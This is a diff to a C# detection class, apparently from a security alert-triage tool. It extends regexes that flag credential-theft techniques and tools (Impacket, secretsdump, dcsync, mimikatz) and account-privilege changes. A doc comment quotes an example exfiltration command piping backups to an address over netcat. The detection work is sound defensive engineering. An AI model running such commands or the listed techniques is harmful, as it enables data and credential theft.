@@ -34,11 +34,17 @@ public static partial class CommonEvidence
 
     /// <summary>
     /// Credential-theft techniques a vulnerability scanner never performs (directory replication, forged or replayed
-    /// Kerberos tickets, NTDS copies, a honeytoken used, Kerberoasting): from a scanner's address they mean the scanner
+    /// Kerberos tickets, NTDS copies, a honeytoken used, Kerberoasting, Impacket's remote execution) nor account changes: from a scanner's address they mean the scanner
     /// host itself is compromised, so the scanner explains nothing. Its discovery, enumeration and login attempts it does by design.
     /// </summary>
-    [GeneratedRegex(@"(?i)dcsync|dcshadow|replication of directory|golden ticket|silver ticket|diamond ticket|forged (?:ticket|pac)|pass[- ]the[- ](?:hash|ticket)|overpass|skeleton key|honey ?token|ntds|kerberoast|spn exposure|as-?rep roast|mimikatz")]
+    [GeneratedRegex(@"(?i)dcsync|dcshadow|replication of directory|golden ticket|silver ticket|diamond ticket|forged (?:ticket|pac)|pass[- ]the[- ](?:hash|ticket)|overpass|skeleton key|honey ?token|ntds|kerberoast|spn exposure|as-?rep roast|mimikatz|impacket|secretsdump|wmiexec|smbexec|atexec|dcomexec|" + AccountChangePattern)]
     internal static partial Regex ScannerNeverDoes();
+
+    /// <summary>Rule names of an account or privilege change (a grant, a new or updated user, a group member added, a role assigned).</summary>
+    private const string AccountChangePattern = @"privilege[._ ]grant|user[._ ](?:update|create|add)|(?:member|user)s? added to|added to (?:a |the )?(?:privileged |admin\w* )?group|group[._ ]member(?:ship)?[._ ]add|role[._ ]assign";
+
+    [GeneratedRegex("(?i)" + AccountChangePattern)]
+    internal static partial Regex AccountChange();
 
     /// <summary>
     /// A command line that names an address the context file lists as bad ("tar czf - /backups | nc 203.0.113.9 4444"):
@@ -60,8 +66,9 @@ public static partial class CommonEvidence
             ? new("departed_user_attempt", $"{alert.User} left on {departed.Left:yyyy-MM-dd} (context file departed_users), yet someone tried to sign in with the account", Leaning.Malicious, 1.0, ContextFile)
             : new("departed_user_active", $"{alert.User} left on {departed.Left:yyyy-MM-dd} (context file departed_users), yet the account is still in use: nobody should be using it", Leaning.Malicious, 3.0, ContextFile, Strong: true);
 
+    /// <summary>IPv4 addresses written in free text (command lines, descriptions, field values).</summary>
     [GeneratedRegex(@"(?<![\d.])(?:\d{1,3}\.){3}\d{1,3}(?![\d.])")]
-    private static partial Regex Ipv4InText();
+    internal static partial Regex Ipv4InText();
 
     /// <summary>Text clipped for a brief: alert content is untrusted and may be huge.</summary>
     public static string Clip(string s, int max = 240)
@@ -105,7 +112,7 @@ public static partial class CommonEvidence
         ["subject", "body", "content", "html", "text", "url", "uri", "urls", "link", "links", "href", "path", "file", "filename", "files", "attachment", "attachments",
          "command", "cmdline", "commandline", "misc", "tactic", "tactics", "technique", "techniques", "mitre", "intent"];
 
-    [GeneratedRegex(@"(?<!\b(no|not|non|without)[- ])\b(malware|malicious|trojan\w*|virus|worm|ransom\w*|filecoder|backdoor|rootkit|spyware|keylogger|\w*stealer|beacon\w*|cobalt ?strike|command[- ]and[- ]control|c2|cnc|c&c|botnet|web ?shell|mimikatz|credential[- ](dump\w*|theft|steal\w*|harvest\w*)|lsass|(coin|crypto\w*)[- ]?min(er|ing)|miner|stratum|exploit\w*|brute[- ]?forc\w*|brute|phish\w*|exfiltrat\w*|dns[- ]tunnel\w*|hacktool|(threat[- ])?intel(ligence)?[- ](hit|match\w*)|ioc[- ](hit|match\w*)|indicator[- ]match\w*)\b", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
+    [GeneratedRegex(@"(?<!\b(no|not|non|without)[- ])\b(malware|malicious|trojan\w*|virus|worm|ransom\w*|filecoder|backdoor|rootkit|spyware|keylogger|\w*stealer|beacon\w*|cobalt ?strike|command[- ]and[- ]control|c2|cnc|c&c|botnet|web ?shell|mimikatz|credential[- ](dump\w*|theft|steal\w*|harvest\w*)|lsass|(coin|crypto\w*)[- ]?min(er|ing)|miner|stratum|exploit\w*|brute[- ]?forc\w*|brute|phish\w*|exfiltrat\w*|dns[- ]tunnel\w*|hacktool|(threat[- ])?intel(ligence)?[- ](hit|match\w*)|ioc[- ](hit|match\w*)|indicator[- ]match\w*|(bulk|mass)[- ](secret|credential|key)s?[- ]?\w*|(secret|credential|key)s?[- ](bulk|mass)[- ]\w*|(bulk|mass)[- ]retriev\w*)\b", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
     private static partial Regex ThreatClaim();
 
     [GeneratedRegex(@"\b(malware|trojan|beacon|cobalt ?strike|command[- ]and[- ]control|c2|ransom\w*|filecoder|backdoor|web ?shell|mimikatz|credential dump\w*|lsass dump\w*|botnet|(coin|crypto) ?miners?|tunnel\w*|exfiltrat\w*|disabled[- ](in[- ]hr[- ])?(account|user)|leaver)\b", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
